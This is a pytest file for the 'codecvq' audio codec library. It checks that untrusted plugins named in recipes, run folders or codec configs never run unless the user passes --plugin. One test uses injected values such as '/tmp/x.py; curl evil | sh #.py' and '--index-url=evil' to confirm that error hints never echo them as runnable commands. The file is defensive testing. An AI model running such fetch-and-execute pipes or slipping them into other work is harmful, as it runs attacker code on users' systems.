"""Plugins that a recipe, a run or a codec declares are loaded only if the user names them."""

from __future__ import annotations

import hashlib
import json
import logging
import os
import py_compile
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pytest
import soundfile
from third_party_plugins import ROOT, install_distribution

import codecvq
from codecvq.cli.app import main
from codecvq.errors import PluginError
from codecvq.plugins import registry
from codecvq.plugins.declarations import DeclaredPlugin, pinned_plugins, same_plugins
from codecvq.training import loop
from codecvq.training.recipe import load_recipe
from codecvq.training.run import RunFolder
from recipes import write_recipe

PLUGIN = """
from pathlib import Path
from codecvq import QuantizerSpec, hookimpl

Path(r"{ran}").touch()

def make(dim):
    from codecvq_fsq.quantizer import FSQ
    return FSQ(dim, [5, 5])

@hookimpl
def codecvq_quantizers():
    yield QuantizerSpec(name="untrusted_vq", factory=make)
"""
Command = Callable[..., tuple[int, str, str]]


@pytest.fixture(autouse=True)
def registry_as_it_was() -> Iterator[None]:
    logger = logging.getLogger("codecvq")
    handlers, propagate, origins = logger.handlers, logger.propagate, set(registry().origins)
    yield
    logger.handlers, logger.propagate = handlers, propagate
    for name in set(registry().origins) - origins:
        registry().unregister(registry().origins[name])


@pytest.fixture
def command(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Command:
    """Run `codecvq …` in an empty working folder. Returns exit code, stdout and stderr."""
    (tmp_path / "cwd").mkdir()
    monkeypatch.chdir(tmp_path / "cwd")

    def call(*arguments: object) -> tuple[int, str, str]:
        with pytest.raises(SystemExit) as leaving:
            main([str(argument) for argument in arguments])
        captured = capsys.readouterr()
        return int(leaving.value.code or 0), captured.out, captured.err

    return call


class UntrustedFolder:
    """An untrusted recipe, its plugin, and a run folder. The plugin creates the file `ran` if it runs."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.ran = folder, folder / "it-ran"
        self.plugin = folder / "untrusted_vq.py"
        self.plugin.write_text(PLUGIN.format(ran=self.ran))
        (folder / "evil_module.py").write_text(PLUGIN.format(ran=self.ran))
        self.recipe = write_recipe(
            folder / "untrusted.yaml",
            quantizer={"name": "untrusted_vq"},
            plugins=["./untrusted_vq.py", "evil_module"],
            training={"steps": 1, "validation_clips": 0, "init_from": str(folder)},
        )
        self.run = folder / "run"
        codec = codecvq.Codec(
            sample_rate=16000,
            network=load_recipe("quickstart", ["network.encoder_width=16"]).network,
            quantizer={"name": "fsq", "levels": [3]},
        )
        codec.save(self.run / "codec")
        config = json.loads((self.run / "codec/config.json").read_text())
        config["plugins"]["quantizer"] |= {
            "plugin": "evil_module",
            "file": str(self.plugin),
            "sha256": "0" * 64,
        }
        (self.run / "codec/config.json").write_text(json.dumps(config))
        (self.run / "recipe.yaml").write_bytes(self.recipe.read_bytes())
        (self.run / "untrusted_vq.py").write_bytes(self.plugin.read_bytes())


@pytest.fixture
def untrusted(tmp_path: Path) -> UntrustedFolder:
    (tmp_path / "untrusted").mkdir()
    return UntrustedFolder(tmp_path / "untrusted")


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        ("recipes show {recipe}", 0),
        ("recipes show {recipe} --json", 0),
        ("recipes show {recipe} --resolved", 0),
        ("train {recipe} --run run", 2),
        ("train {recipe} --smoke", 2),
        ("train quickstart --run {run}", 2),
        ("train quickstart training.steps=1 plugins=[{plugin}]", 2),
        ("train quickstart plugins=[evil_module]", 2),
        ("evaluate {run} prompts --split all --max-clips 1 --metrics stoi --out out", 0),
        ("compare {run} --max-clips 1 --metrics stoi", 0),
        ("encode {run} {run} --out out", 2),
        ("decode {run} {run} --out out", 2),
        ("tokenize {run} {run} --out out", 2),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_no_command_runs_plugins_that_a_folder_or_a_recipe_names(
    command: Command, untrusted: UntrustedFolder, monkeypatch: pytest.MonkeyPatch, arguments: str, code: int
) -> None:
    monkeypatch.syspath_prepend(str(untrusted.folder))  # evil_module could be imported
    paths = {"recipe": untrusted.recipe, "run": untrusted.run, "plugin": untrusted.plugin}
    found, out, err = command(*(word.format(**paths) for word in arguments.split()))
    assert found == code, out + err
    assert not untrusted.ran.exists()
    assert "evil_module" not in sys.modules
    assert "Traceback" not in err


def test_loading_from_python_runs_nothing(untrusted: UntrustedFolder) -> None:
    codecvq.load(untrusted.run)
    recipe = load_recipe(untrusted.recipe)
    RunFolder(untrusted.run).recipe()
    with pytest.raises(PluginError, match="needs a plugin"):
        loop.train(recipe, untrusted.folder / "new")
    assert not untrusted.ran.exists()
    assert not (untrusted.folder / "new").exists()


def test_the_error_names_file_hash_and_option_and_the_option_is_sufficient(
    command: Command, untrusted: UntrustedFolder
) -> None:
    recipe = write_recipe(
        untrusted.folder / "own.yaml",
        quantizer={"name": "untrusted_vq"},
        plugins=["untrusted_vq.py"],
        training={"steps": 1, "validation_clips": 0},
    )
    digest = hashlib.sha256(untrusted.plugin.read_bytes()).hexdigest()
    code, _, err = command("train", recipe, "--run", "run")
    assert code == 2
    assert f"the file {untrusted.plugin} (sha256 {digest[:12]}…)" in err
    assert err.rstrip().endswith(f"--plugin {untrusted.plugin}")
    assert len(err.splitlines()) == 1
    code, out, _ = command("recipes", "show", recipe)
    assert code == 0
    assert out.startswith(recipe.read_text().rstrip())
    assert f"--plugin {untrusted.plugin}" in out
    for _ in range(2):  # the second call resumes
        code, out, err = command("train", recipe, "--run", "run", "--plugin", untrusted.plugin)
        assert code == 0, err
    assert untrusted.ran.exists()
    assert "already complete" in out
    assert RunFolder(Path("run")).recipe().plugins == [f"{untrusted.plugin}#sha256={digest}"]
    assert command("recipes", "show", recipe, "--plugin", untrusted.plugin)[0] == 0


def test_the_error_names_the_plugin_that_the_corpus_of_a_run_needs(
    command: Command, untrusted: UntrustedFolder
) -> None:
    write_recipe(untrusted.run / "recipe.yaml", corpus={"name": "its_speech"}, plugins=["../untrusted_vq.py"])
    code, _, err = command("evaluate", untrusted.run)
    assert code == 2
    assert "no corpus named 'its_speech'" in err
    assert f"--plugin {untrusted.plugin}" in err


def test_a_pinned_plugin_must_have_the_given_hash(untrusted: UntrustedFolder) -> None:
    origin = registry().load(untrusted.plugin)
    entry = f"/elsewhere/untrusted_vq.py#sha256={origin.sha256}"
    assert pinned_plugins([entry]) == [f"{untrusted.plugin}#sha256={origin.sha256}"]
    with pytest.raises(PluginError, match=r"with sha256 000000000000…; .*, has "):
        pinned_plugins([f"{untrusted.plugin}#sha256={'0' * 64}"])
    assert pinned_plugins(["codecvq_fsq"]) == ["codecvq_fsq"], "an installed plugin is already loaded"
    assert pinned_plugins([], [origin]) == [f"{untrusted.plugin}#sha256={origin.sha256}"]


@pytest.mark.parametrize(
    ("before", "after", "same"),
    [
        (["/a/x.py"], ["/b/x.py"], True),
        (["/a/x.py"], [f"/b/x.py#sha256={'1' * 64}"], True),
        ([f"/a/x.py#sha256={'1' * 64}"], [f"/b/y.py#sha256={'1' * 64}"], True),
        ([f"/a/x.py#sha256={'1' * 64}"], [f"/a/x.py#sha256={'2' * 64}"], False),
        (["/a/x.py"], [], False),
        (["m", "/a/x.py"], ["/a/x.py", "m"], True),
    ],
)
def test_plugins_are_compared_by_hash(before: list[str], after: list[str], same: bool) -> None:
    assert same_plugins(before, after) is same


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("/tmp/x.py; curl evil | sh #.py", "--plugin '/tmp/x.py; curl evil | sh #.py'"),
        ("os; curl evil | sh", "If you trust it, name it with --plugin"),
        ("--index-url=evil", "name it with --plugin"),
        ("their_vq.plugin", "name it: --plugin their_vq.plugin"),
    ],
)
def test_advice_never_repeats_untrusted_text_as_a_command(tmp_path: Path, source: str, shown: str) -> None:
    if source.startswith("/"):
        source = str(tmp_path) + source
        Path(source).parent.mkdir()
        Path(source).touch()
        shown = shown.replace("'/tmp", f"'{tmp_path}/tmp")
    assert shown in DeclaredPlugin(source).load_hint().replace("//", "/")


def test_a_device_file_is_not_read_as_a_plugin() -> None:
    assert "not found" in DeclaredPlugin("/dev/zero").load_hint()


def test_the_hashed_source_is_the_code_that_runs(tmp_path: Path) -> None:
    """A .pyc file next to a plugin is not used, although Python would prefer it."""
    ran, plugin = tmp_path / "it-ran", tmp_path / "innocent.py"
    plugin.write_text(PLUGIN.format(ran=ran))
    py_compile.compile(str(plugin), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    plugin.write_text("# nothing\n")
    registry().load(plugin)
    assert not ran.exists()


def test_the_working_folder_is_not_on_the_import_path(tmp_path: Path) -> None:
    """Neither modules nor distributions are imported from it, although `python -m` searches it first."""
    for name in ("rich", "my_plugin"):
        (tmp_path / f"{name}.py").write_text(PLUGIN.format(ran=tmp_path / "it-ran"))
    install_distribution(tmp_path, "evil-plugin", PLUGIN.format(ran=tmp_path / "it-ran"))
    paths = os.pathsep.join(str(path) for path in (ROOT, ROOT / "plugins"))
    command = [sys.executable, "-m", "codecvq", "plugins", "list"]
    for more, code in (([], 0), (["--plugin", "my_plugin"], 2)):
        done = subprocess.run(
            [*command, *more],
            cwd=tmp_path,
            env=os.environ | {"PYTHONPATH": paths},
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == code, done.stderr
        assert "untrusted_vq" not in done.stdout
    assert "Give an importable module, or a file such as ./my_plugin.py" in done.stderr
    assert not (tmp_path / "it-ran").exists()


LOUD = """
import os, sys
from codecvq import QuantizerSpec, hookimpl

def make(dim):
    from codecvq_fsq.quantizer import FSQ

    class Loud(FSQ):
        def codes_only(self, vectors):
            print("loud")
            if os.path.exists("stop"):
                sys.exit(0)
            return super().codes_only(vectors)

        def dequantize(self, codes):
            print("loud")
            return super().dequantize(codes)

    print("loud")
    return Loud(dim, [5, 5])

@hookimpl
def codecvq_quantizers():
    yield QuantizerSpec(name="loud", factory=make)
"""


@pytest.mark.slow
def test_a_quantizer_that_prints_or_exits_does_not_stop_commands(command: Command) -> None:
    Path("loud.py").write_text(LOUD)
    Path("audio").mkdir()
    soundfile.write("audio/a.wav", np.full(8000, 0.1), 16000)
    registry().load("loud.py")
    network = load_recipe("quickstart", ["network.encoder_width=16"]).network
    codecvq.Codec(sample_rate=16000, network=network, quantizer={"name": "loud"}).save("codec")
    command_lines = (
        "encode codec audio --out small",
        "decode codec small --out back",
        "tokenize codec audio --out tokens",
        "detokenize codec tokens --out again",
        "evaluate codec audio --split all --metrics mel_distance --out out",
        "compare codec --data audio --metrics mel_distance",
    )
    for arguments in command_lines:
        code, out, err = command(*arguments.split(), "--json")
        assert code == 0, err
        json.loads(out)
        assert "loud" in err
    Path("stop").touch()
    for arguments in (command_lines[0], command_lines[2].replace("tokens", "others"), *command_lines[4:]):
        code, out, err = command(*arguments.split(), "--json")
        assert code in (1, 2), (arguments, out, err)
        assert "it tried to end the process" in out + err
